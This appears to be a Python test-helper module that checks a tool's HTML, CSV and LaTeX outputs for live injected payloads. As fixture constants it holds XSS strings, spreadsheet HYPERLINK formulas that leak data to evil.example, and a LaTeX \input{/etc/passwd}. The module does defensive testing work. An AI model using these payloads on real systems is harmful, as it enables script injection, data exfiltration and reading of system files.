"""Checks shared by the hostile-corpus tests: parse an output and say whether any payload in it is live."""
from __future__ import annotations

import csv
import re
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path

from conftest import DATA

HOSTILE = DATA / "hostile"
TITLE_XSS = "</script><img src=x onerror=alert(1)> Serving energy of chat models"
"""A title of the hostile corpus (tests/data/hostile/papers.bib)."""
KEY_XSS = "evil<script>alert(13)</script>2020"
"""A BibTeX key of the hostile corpus: a paper with no figures, so notebook 01 lists it by name."""
STATEMENT_XSS = "<!--<script>alert(12)// 0.5 L per query"
"""A curated statement no extracted claim matches: it stays the quote of its evidence row."""
SUBJECT_XSS = "<img src=x onerror=alert(9)>"
LOCATOR_FORMULA = '=HYPERLINK("http://evil.example/?loc","x")'
TOPIC_FORMULA = '=HYPERLINK("http://evil.example/?leak")'
NEGATIVE_QUOTE = "-54.8%"
QUOTED_CAVEAT = "'quoted caveat"
LATEX_CAVEAT = r"\input{/etc/passwd}"
TERMINAL_ESCAPE = "\x1b[2J"


@dataclass
class Page:
    """What an HTML parser (the same tokenisation rules as a browser for these cases) found in a page."""

    elements: list[tuple[str, dict[str, str]]] = field(default_factory=list)
    scripts: list[tuple[dict[str, str], str]] = field(default_factory=list)
    styles: list[str] = field(default_factory=list)
    text: list[str] = field(default_factory=list)

    @property
    def tags(self) -> set[str]:
        return {tag for tag, _ in self.elements}

    @property
    def visible_text(self) -> str:
        return "".join(self.text)


class _Parser(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.page = Page()
        self._raw: str | None = None

    def handle_starttag(self, tag, attrs):
        attrs = {k: v or "" for k, v in attrs}
        self.page.elements.append((tag, attrs))
        if tag == "script":
            self.page.scripts.append((attrs, ""))
        if tag in ("script", "style"):
            self._raw = tag
        if "style" in attrs:
            self.page.styles.append(attrs["style"])

    def handle_endtag(self, tag):
        if tag == self._raw:
            self._raw = None

    def handle_data(self, data):
        if self._raw == "script":
            attrs, text = self.page.scripts[-1]
            self.page.scripts[-1] = (attrs, text + data)
        elif self._raw == "style":
            self.page.styles.append(data)
        else:
            self.page.text.append(data)


def parse_html(html: str) -> Page:
    """Elements, script and style contents, and text of ``html``."""
    parser = _Parser()
    parser.feed(html)
    parser.close()
    return parser.page


LIVE = re.compile(r"alert\(|javascript:", re.I)
"""What only a live payload would put in an attribute or a script of our pages."""


def live_payloads(page: Page) -> list[str]:
    """Every sign that a payload became markup or code: event-handler attributes, payload text in an
    attribute or script, a javascript: URL, an image that is not inline data, tags only payloads bring."""
    found = []
    for tag, attrs in page.elements:
        found += [f"<{tag} {k}=...>" for k in attrs if k.startswith("on")]
        found += [f"<{tag} {k}={v!r}>" for k, v in attrs.items() if LIVE.search(v)]
        if tag == "img" and not attrs.get("src", "").startswith("data:image/"):
            found.append(f"<img src={attrs.get('src')!r}>")
        if tag in ("svg", "b", "object", "embed"):
            found.append(f"<{tag}>")
    found += [f"<script> with {text[:60]!r}" for attrs, text in page.scripts
              if attrs.get("type", "text/javascript") in _JAVASCRIPT and LIVE.search(text)]
    return found


_JAVASCRIPT = {"", "text/javascript", "application/javascript", "module"}
"""Script types a browser runs; any other (application/json) is a data block."""


REMOTE = re.compile(r"^\s*(?:[a-z][a-z0-9+.-]*:)?//", re.I)
"""A URL that leaves the machine: a scheme with an authority (http:, https:, ftp:, ...) or protocol-relative."""


def remote_loads(page: Page) -> list[str]:
    """Every resource the page would fetch from elsewhere: scripts by src, stylesheets, fonts, images, frames."""
    found = [f"<script src={a['src']!r}>" for a, _ in page.scripts if "src" in a]
    for tag, attrs in page.elements:
        for name in ("src", "href", "data", "poster", "srcset", "action", "formaction"):
            if REMOTE.match(attrs.get(name, "")):
                found.append(f"<{tag} {name}={attrs[name]!r}>")
    for css in page.styles:
        found += [f"url({u})" for u in re.findall(r"url\(\s*['\"]?([^'\")]*)", css) if REMOTE.match(u)]
        found += [f"@import {m}" for m in re.findall(r"@import\s+([^;]+)", css)]
    return found


def formula_cells(path: Path) -> list[str]:
    """Cells of a CSV file that a spreadsheet would run as a formula (text starting with = + - @ tab CR LF)."""
    with path.open(encoding="utf-8", newline="") as f:
        cells = [c for row in csv.reader(f) for c in row]
    return [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "\n") and not _is_number(c)]


def _is_number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


_LATEX_ALLOWED = {"begin", "end", "toprule", "midrule", "bottomrule", "textbackslash", "textasciitilde",
                  "textasciicircum", "textless", "textgreater", "textbar", *"{}$&%#_\\"}


def live_latex(tex: str) -> list[str]:
    """LaTeX that would do more than typeset text: commands beyond a table's and the escapes, ``^^``
    character codes, unescaped comment, math or parameter characters."""
    found = [f"\\{c}" for c in re.findall(r"\\([A-Za-z]+|.)", tex) if c not in _LATEX_ALLOWED]
    plain = re.sub(r"\\(?:[A-Za-z]+(?:\{\})?|.)", "", tex)
    found += [f"bare {c!r}" for c in "%$#^~_" if c in plain]
    return found
